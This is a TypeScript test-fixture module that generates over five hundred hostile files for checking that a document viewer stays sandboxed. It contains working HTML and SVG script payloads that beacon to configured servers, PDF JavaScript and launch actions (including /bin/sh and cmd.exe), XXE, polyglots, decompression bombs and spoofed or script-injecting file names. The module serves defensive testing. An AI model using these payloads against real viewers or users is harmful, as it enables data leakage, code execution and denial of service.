// More than five hundred files that were made to do harm: each calls the servers whose addresses it is given, by every way that its kind
// has, or is broken in a way that decoders have been broken by. The same every time, so that what one shows can be looked into.
import { deflateSync } from 'node:zlib'
import type { View } from '#shared/domain/evidence-types.ts'
import { JPEG, RED, bmp, box, gif, pdf, png, pngChunk, pngOf, redPdf, stream, wav, webm, webp } from './samples.ts'

export type HostileFile = { readonly name: string; readonly view: View; readonly type: string; readonly bytes: Buffer }
export type Servers = { readonly http: string; readonly stun: string }

export const MARK = 'HOSTILE-CANARY'

export function hostileFiles(servers: Servers): HostileFile[] {
  const html = hostilePages(servers)
  const pdfs = hostilePdfs(servers)
  const whole = [
    ...html.flatMap((page, index) => asEveryKind(`page-${index}`, page)),
    ...pdfs.map((bytes, index) => file(`acting-${index}.pdf`, 'pdf', 'application/pdf', bytes)),
    ...polyglots(html[0] ?? Buffer.alloc(0), pdfs[0] ?? Buffer.alloc(0)),
    ...claims(),
    ...badNames(servers),
  ]
  return [...whole, ...mutations(bases(pdfs))]
}

function file(name: string, view: View, type: string, bytes: Buffer): HostileFile {
  return { name, view, type, bytes }
}

/** Everything a page can do to be heard of. */
export function hostilePages({ http, stun }: Servers): Buffer[] {
  const script = `
    const to = '${http}/js';
    const quietly = (work) => { try { const p = work(); if (p && p.catch) p.catch(() => 0) } catch {} };
    quietly(() => fetch(to, { mode: 'no-cors' })); quietly(() => navigator.sendBeacon(to, 'x'));
    quietly(() => { const x = new XMLHttpRequest(); x.open('GET', to); x.send() });
    quietly(() => new WebSocket(to.replace('http', 'ws'))); quietly(() => new EventSource(to));
    quietly(() => { new Image().src = to }); quietly(() => window.open('${http}/pop-up')); quietly(() => window.open('about:blank'));
    quietly(() => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] }); c.createDataChannel('x');
      c.createOffer().then((o) => c.setLocalDescription(o)) });
    quietly(() => new Worker(URL.createObjectURL(new Blob(["importScripts('" + to + "')"]))));
    quietly(() => { const a = document.createElement('a'); a.href = 'data:text/plain,${MARK}'; a.download = 'left.txt'; a.click() });
    quietly(() => window.api.invoke('vault.state', {})); quietly(() => require('fs').writeFileSync('left.txt', '${MARK}'));
    quietly(() => { document.forms[0].submit() }); quietly(() => { top.location = '${http}/top' });`
  const parts = [
    `<script>${script}</script>`,
    `<img src="${http}/img"><img srcset="${http}/srcset 2x"><picture><source srcset="${http}/picture"><img></picture>`,
    `<link rel="stylesheet" href="${http}/css"><style>@import url("${http}/import"); body { background: url("${http}/bg") }</style>`,
    `<link rel="prefetch" href="${http}/prefetch"><link rel="preconnect" href="${http}"><link rel="preload" as="image" href="${http}/preload">`,
    `<iframe src="${http}/frame"></iframe><object data="${http}/object"></object><embed src="${http}/embed">`,
    `<video src="${http}/video" autoplay></video><audio src="${http}/audio" autoplay></audio><track src="${http}/track">`,
    `<meta http-equiv="refresh" content="0;url=${http}/refresh">`,
    `<form action="${http}/form" method="post"><input autofocus onfocus="this.form.submit()"><button>x</button></form>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${http}/svg')"><image href="${http}/svg-image"/><script>${script}</script></svg>`,
    `<body onload="${script.replaceAll('"', '&quot;')}"><base href="${http}/">`,
    `<script type="module">import '${http}/module'</script><script src="${http}/script"></script>`,
    `</pre></bdi></h1><script>${script}</script><plaintext>`,
    `<img src=x onerror="fetch('${http}/onerror')"><details open ontoggle="fetch('${http}/toggle')">`,
    `<a href="${http}/link" ping="${http}/ping" style="position:fixed;inset:0">x</a><script>document.links[0].click()</script>`,
  ]
  const every = parts.map((part) => `<!doctype html><title>${MARK}</title>${part}`)
  return [parts.join('\n'), ...every].map((text) => Buffer.from(text))
}

// A file is shown by what its first bytes say. Should that ever be fooled, this is what it would be shown as.
function asEveryKind(name: string, page: Buffer): HostileFile[] {
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${page.toString().replace(/<!doctype html>/, '')}</svg>`,
  )
  const mail = Buffer.concat([
    Buffer.from('From: a@example.invalid\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n'),
    page,
  ])
  return [
    file(`${name}.html`, 'text', 'text/plain', page),
    file(`${name}.svg`, 'text', 'text/plain', svg),
    file(`${name}.eml`, 'text', 'message/rfc822', mail),
    file(`${name}.txt`, 'text', 'text/plain', Buffer.from(`\ufeff${page.toString()}`, 'utf16le')),
    file(`${name}-image.svg`, 'image', 'image/svg+xml', svg),
    file(`${name}-image.png`, 'image', 'image/png', page),
    file(`${name}-markup.png`, 'image', 'text/html', page),
    file(`${name}.mp4`, 'video', 'video/mp4', page),
    file(`${name}-markup.mp4`, 'video', 'text/html', page),
    file(`${name}.mp3`, 'audio', 'audio/mpeg', Buffer.from(`#EXTM3U\n#EXTINF:1\n${page.toString()}`)),
    file(`${name}.pdf`, 'pdf', 'application/pdf', page),
  ]
}

export function hostilePdfs({ http }: Servers): Buffer[] {
  const js = `app.launchURL('${http}/launch', true); this.submitForm('${http}/submit'); this.getURL('${http}/get'); app.alert('${MARK}'); this.print(); this.exportDataObject({ cName: 'left.txt', nLaunch: 2 })`
  const actions = [
    `<< /S /JavaScript /JS (${js.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`,
    `<< /S /URI /URI (${http}/uri) >>`,
    '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    `<< /S /SubmitForm /F << /FS /URL /F (${http}/submit) >> /Flags 4 >>`,
    `<< /S /GoToR /F << /FS /URL /F (${http}/remote.pdf) >> /D [0 /Fit] /NewWindow true >>`,
    '<< /S /GoToE /T << /R /C /N (left.txt) >> /NewWindow true >>',
    `<< /S /ImportData /F << /FS /URL /F (${http}/data.fdf) >> >>`,
    '<< /S /Named /N /Print >>',
    `<< /S /Thread /F << /FS /URL /F (${http}/thread) >> >>`,
    `<< /S /Rendition /JS (${http}) >>`,
  ]
  const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A ${action} >>`
  const widget = (action: string) =>
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Ff 65536 /Rect [0 0 300 300] /A ${action} /AA << /E ${action} /PO ${action} >> >>`
  const acting = actions.flatMap((action) => [
    redPdf({ catalog: `/OpenAction ${action}` }),
    redPdf({ page: `/AA << /O ${action} /C ${action} >>` }),
    redPdf({ page: `/Annots [${link(action)}]` }),
    redPdf({
      catalog: `/AcroForm << /Fields [6 0 R] /NeedAppearances true >>`,
      page: '/Annots [6 0 R]',
      more: [widget(action)],
    }),
    redPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${action}] >> >>` }),
  ])
  return [...acting, ...strangePdfs(http)]
}

function strangePdfs(http: string): Buffer[] {
  const url = `<< /FS /URL /F (${http}/external) >>`
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.launchURL("${http}/xfa")</script></event></subform></template></xdp:xdp>`
  const xxe = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${http}/xxe">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>`
  const matrix = `[1 2 3 4 5 (0\\); fetch\\('${http}/font'\\);//)]`
  const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20)).toString('latin1')
  const image = (filter: string, data: string, size = 64) =>
    stream(
      data,
      `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} /ColorSpace /DeviceRGB /BitsPerComponent 8 ${filter}`,
    )
  const withImage = (object: string) =>
    redPdf({
      page: '/Resources << /XObject << /I 6 0 R >> >>',
      content: 'q 300 0 0 300 0 0 cm /I Do Q',
      more: [object],
    })
  return [
    redPdf({ catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>', more: [stream(xfa)] }),
    redPdf({ catalog: '/Metadata 6 0 R', more: [stream(xxe, '/Type /Metadata /Subtype /XML')] }),
    redPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(left.txt) 6 0 R] >> >>',
      more: ['<< /Type /Filespec /F (left.txt) /EF << /F 7 0 R >> >>', stream('HOSTILE-CANARY')],
    }),
    redPdf({ page: `/Annots [<< /Subtype /FileAttachment /Rect [0 0 300 300] /FS ${url} >>]` }),
    redPdf({
      page: `/Annots [<< /Subtype /Screen /Rect [0 0 300 300] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D ${url} >> >> >> >>]`,
    }),
    redPdf({
      page: `/Annots [<< /Subtype /RichMedia /Rect [0 0 300 300] /RichMediaContent << /Assets << /Names [(a.swf) ${url}] >> >> >>]`,
    }),
    redPdf({ page: `/Annots [<< /Subtype /Movie /Rect [0 0 300 300] /Movie << /F ${url} >> >>]` }),
    withImage(image(`/F ${url}`, '')),
    withImage(
      `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${url} /Page 0 >> /Length 0 >>\nstream\n\nendstream`,
    ),
    withImage(image('/Filter /JPXDecode', '\0\0\0\x0cjP  \r\n\x87\n' + 'A'.repeat(400))),
    withImage(image('/Filter /JBIG2Decode', 'A'.repeat(400))),
    withImage(image('/Filter /CCITTFaxDecode', 'A'.repeat(400))),
    withImage(image('/Filter /DCTDecode', JPEG.subarray(0, 200).toString('latin1'))),
    withImage(image('/Filter /FlateDecode', bomb, 60_000)),
    withImage(image('', '', 2_000_000_000)),
    redPdf({ content: stream(bomb), more: [] }),
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000000000 >>']),
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 900000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>',
    ]),
    redPdf({ page: '/MediaBox [0 0 1e30 1e30]' }),
    redPdf({ page: '/MediaBox [0 0 1 2000000000] /UserUnit 1000000' }),
    redPdf({ content: 'q '.repeat(200_000) }),
    redPdf({ content: '0 0 m 300 300 l S '.repeat(40_000) }),
    redPdf({ content: `BT /F1 1e30 Tf ${'(x) Tj '.repeat(2_000)} ET` }),
    redPdf({ catalog: `/X ${'['.repeat(20_000)}${']'.repeat(20_000)}` }),
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      stream('BT /F1 24 Tf 20 150 Td (AAAA) Tj ET'),
      `<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix ${matrix} /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 6 0 R >>`,
      '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile 7 0 R >>',
      stream(`%!PS-AdobeFont-1.0\n/FontMatrix [1 2 3 4 5 (0\\); fetch\\('${http}/font'\\))] def\ncurrentfile eexec`),
    ]),
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      stream('BT /F1 24 Tf 20 150 Td (AAAA) Tj ET'),
      '<< /Type /Font /Subtype /Type3 /FontMatrix [1 0 0 1 0 0] /FontBBox [0 0 1 1] /CharProcs << /a 6 0 R >> /Encoding << /Differences [65 /a] >> /FirstChar 65 /LastChar 65 /Widths [1] /Resources << /Font << /F1 5 0 R >> >> >>',
      stream('BT /F1 1 Tf (AAAA) Tj ET'),
    ]),
    redPdf({ catalog: '/Encrypt 6 0 R', more: ['<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -1 >>'] }),
  ]
}

function polyglots(page: Buffer, acting: Buffer): HostileFile[] {
  const image = png({ width: 32, height: 32 }, RED)
  const commented = Buffer.concat([Buffer.from('GIF89a/*'), page, Buffer.from('*/=1;')])
  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), page])
  const both = (first: Buffer, second: Buffer) => Buffer.concat([first, second])
  return [
    file('a.png.html', 'image', 'image/png', both(image, page)),
    file('b.jpg.pdf', 'image', 'image/jpeg', both(JPEG, acting)),
    file('c.gif.js', 'image', 'image/gif', commented),
    file('d.pdf.html', 'pdf', 'application/pdf', both(acting, page)),
    file('e.html.pdf', 'pdf', 'application/pdf', both(Buffer.from(`<!--\n`), acting)),
    file('f.pdf.zip', 'pdf', 'application/pdf', both(acting, zip)),
    file('g.wav.html', 'audio', 'audio/wav', both(wav(1), page)),
    file('h.webm.html', 'video', 'video/webm', both(Buffer.concat([...webm(2)]), page)),
    file(
      'i.png.svg',
      'image',
      'image/png',
      both(image, Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)),
    ),
    file('j.txt.exe', 'text', 'text/plain', both(Buffer.from('MZ'), page)),
  ]
}

// Small files that say they are huge.
function claims(): HostileFile[] {
  const zeros = deflateSync(Buffer.alloc(48 * 1024 * 1024))
  const text = (name: string, data: Buffer) => pngChunk(name, Buffer.concat([Buffer.from('x\0\0'), data]))
  const small = png({ width: 8, height: 8 }, RED)
  const sizes = [
    { width: 1, height: 2_000_000_000 },
    { width: 2_000_000_000, height: 1 },
    { width: 100_000, height: 100_000 },
    { width: 0x7fffffff, height: 0x7fffffff },
    { width: 0, height: 5 },
    { width: 9_000, height: 9_000 },
  ]
  return [
    ...sizes.map((size, index) => file(`claim-${index}.png`, 'image', 'image/png', pngOf(size, zeros))),
    ...sizes.map(({ width, height }, index) =>
      file(`claim-${index}.bmp`, 'image', 'image/bmp', bmp(width & 0x7fffffff, height & 0x7fffffff)),
    ),
    file(
      'text-bomb.png',
      'image',
      'image/png',
      Buffer.concat([small.subarray(0, 33), text('zTXt', zeros), text('iCCP', zeros), small.subarray(33)]),
    ),
    file('claim.gif', 'image', 'image/gif', gif(65_535, 65_535)),
    file(
      'frames.gif',
      'image',
      'image/gif',
      Buffer.concat([
        gif(9_000, 9_000).subarray(0, 19),
        ...Array.from({ length: 3_000 }, () => gif(1, 1).subarray(19, -1)),
        Buffer.of(0x3b),
      ]),
    ),
    file('claim.wav', 'audio', 'audio/wav', wav(1, 0xffffffff)),
    file('claim.webm', 'video', 'video/webm', Buffer.concat([...webm(2)]).fill(0xff, 52, 60)),
    file(
      'claim.mp4',
      'video',
      'video/mp4',
      Buffer.concat([box('ftyp', Buffer.from('isom\0\0\0\0isom')), Buffer.from('\xff\xff\xff\xffmoov', 'latin1')]),
    ),
    file('deep.mp4', 'video', 'video/mp4', nested('moov', 2_000)),
    file('lines.txt', 'text', 'text/plain', Buffer.alloc(3 * 1024 * 1024, 0x0a)),
    file('one-line.txt', 'text', 'text/plain', Buffer.alloc(2 * 1024 * 1024, 0x41)),
    file('bidi.txt', 'text', 'text/plain', Buffer.from('\u202e\u2066\u0301'.repeat(50_000))),
    file('empty.txt', 'text', 'text/plain', Buffer.alloc(0)),
  ]
}

function nested(kind: string, depth: number): Buffer {
  let inner: Buffer = Buffer.alloc(0)
  for (let level = 0; level < depth; level += 1) inner = box(kind, inner)
  return Buffer.concat([box('ftyp', Buffer.from('isom\0\0\0\0isom')), inner])
}

function badNames({ http }: Servers): HostileFile[] {
  const names = [
    'photo\u202egpj.exe',
    `<img src=x onerror="fetch('${http}')">.png`,
    `"><script>fetch('${http}')</script>`,
    '</title></h1><style>*{display:none}</style>',
    '&#60;script&#62;.png',
    '\u2066\u2067\u200b\ufeff.png',
    `javascript:fetch('${http}')`,
    'a'.repeat(255),
    '\u0301'.repeat(200),
    'line\nbreak\r\nand\0nothing.png',
  ]
  return names.flatMap((name) => [
    file(name, 'image', 'image/png', png({ width: 8, height: 8 }, RED)),
    file(name, 'text', 'text/plain', Buffer.from(MARK)),
  ])
}

type Base = { readonly kind: string; readonly view: View; readonly type: string; readonly bytes: Buffer }

function bases(pdfs: readonly Buffer[]): Base[] {
  const track = box(
    'trak',
    box('tkhd', Buffer.alloc(84)),
    box('mdia', box('mdhd', Buffer.alloc(24)), box('stbl', box('stsz', Buffer.alloc(64, 0xff)))),
  )
  const mp4 = Buffer.concat([
    box('ftyp', Buffer.from('isom\0\0\0\0isommp42')),
    box('moov', box('mvhd', Buffer.alloc(100)), track),
    box('mdat', Buffer.alloc(500, 7)),
  ])
  const avif = Buffer.concat([
    box('ftyp', Buffer.from('avif\0\0\0\0avifmif1')),
    box(
      'meta',
      Buffer.alloc(4),
      box('hdlr', Buffer.from('\0\0\0\0\0\0\0\0pict')),
      box(
        'iprp',
        box(
          'ipco',
          box('ispe', Buffer.of(0, 0, 0, 0, 0, 0, 0, 64, 0, 0, 0, 64)),
          box('av1C', Buffer.of(0x81, 0, 12, 0)),
        ),
      ),
    ),
    box('mdat', Buffer.alloc(300, 9)),
  ])
  const ogg = Buffer.concat([
    Buffer.from(
      'OggS\0\x02\0\0\0\0\0\0\0\0abcd\0\0\0\0\0\0\0\0\x01\x13OpusHead\x01\x02\0\0\x80\xbb\0\0\0\0\0',
      'latin1',
    ),
    Buffer.alloc(300, 3),
  ])
  const flac = Buffer.concat([Buffer.from('fLaC\x80\0\0\x22', 'latin1'), Buffer.alloc(34, 1), Buffer.alloc(400, 0xf8)])
  const mp3 = Buffer.concat(
    Array.from({ length: 12 }, () => Buffer.concat([Buffer.of(0xff, 0xfb, 0x90, 0x64), Buffer.alloc(413)])),
  )
  return [
    { kind: 'png', view: 'image', type: 'image/png', bytes: png({ width: 40, height: 40 }, RED) },
    { kind: 'jpg', view: 'image', type: 'image/jpeg', bytes: JPEG },
    { kind: 'gif', view: 'image', type: 'image/gif', bytes: gif(1, 1) },
    { kind: 'webp', view: 'image', type: 'image/webp', bytes: webp() },
    { kind: 'bmp', view: 'image', type: 'image/bmp', bytes: bmp(32, 32) },
    { kind: 'avif', view: 'image', type: 'image/avif', bytes: avif },
    { kind: 'pdf', view: 'pdf', type: 'application/pdf', bytes: redPdf() },
    { kind: 'acting.pdf', view: 'pdf', type: 'application/pdf', bytes: pdfs[3] ?? redPdf() },
    { kind: 'mp4', view: 'video', type: 'video/mp4', bytes: mp4 },
    { kind: 'webm', view: 'video', type: 'video/webm', bytes: Buffer.concat([...webm(4)]) },
    { kind: 'ogg', view: 'audio', type: 'audio/ogg', bytes: ogg },
    { kind: 'wav', view: 'audio', type: 'audio/wav', bytes: wav(1) },
    { kind: 'flac', view: 'audio', type: 'audio/flac', bytes: flac },
    { kind: 'mp3', view: 'audio', type: 'audio/mpeg', bytes: mp3 },
  ]
}

const MUTATIONS = 16

// Cut, flipped, doubled and filled with the numbers that lengths and counts go wrong at.
function mutations(from: readonly Base[]): HostileFile[] {
  let state = 20_261_122
  const random = (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state % Math.max(1, below)
  }
  const change = (bytes: Buffer, how: number): Buffer => {
    const copy = Buffer.from(bytes)
    if (how % 4 === 0) return copy.subarray(0, 1 + random(copy.length))
    if (how % 4 === 1) for (let flip = 0; flip < 8; flip += 1) copy[random(copy.length)] = random(256)
    if (how % 4 === 2) copy.fill(how % 8 === 2 ? 0xff : 0, random(copy.length), copy.length).copy(copy, 4 + random(60))
    if (how % 4 === 3) return Buffer.concat([copy.subarray(0, random(copy.length)), copy, copy])
    return copy
  }
  return from.flatMap(({ kind, view, type, bytes }) =>
    Array.from({ length: MUTATIONS }, (_unused, how) => file(`broken-${how}.${kind}`, view, type, change(bytes, how))),
  )
}
